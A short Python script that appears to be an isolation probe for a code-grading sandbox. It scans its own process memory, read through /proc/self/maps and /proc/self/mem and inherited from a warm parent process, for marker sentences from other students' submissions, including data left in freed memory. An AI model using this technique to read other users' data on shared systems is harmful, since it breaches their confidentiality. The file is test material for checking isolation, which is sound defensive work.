"""Searches its own memory, a copy of the warm parent's, for what other students handed in.

Succeeds if a sentence that only other submissions hold is found, be it in memory that was freed.
"""

# Of other attacks, in halves, or it would find itself.
NEEDLES = [(b"Fills every place", b" it can write"), (b"Walks the stack", b" and the garbage")]


def readable():
    with open("/proc/self/maps") as maps:
        for line in maps:
            span, rights, *_ = line.split()
            if rights.startswith("rw") and "[v" not in line:
                yield [int(part, 16) for part in span.split("-")]


with open("/proc/self/mem", "rb", buffering=0) as memory:
    for start, end in readable():
        try:
            memory.seek(start)
            block = memory.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        for half, other in NEEDLES:
            at = block.find(half)
            while at >= 0:
                at += len(half)
                if block[at : at + len(other)] == other:
                    found("it", at)
                at = block.find(half, at)
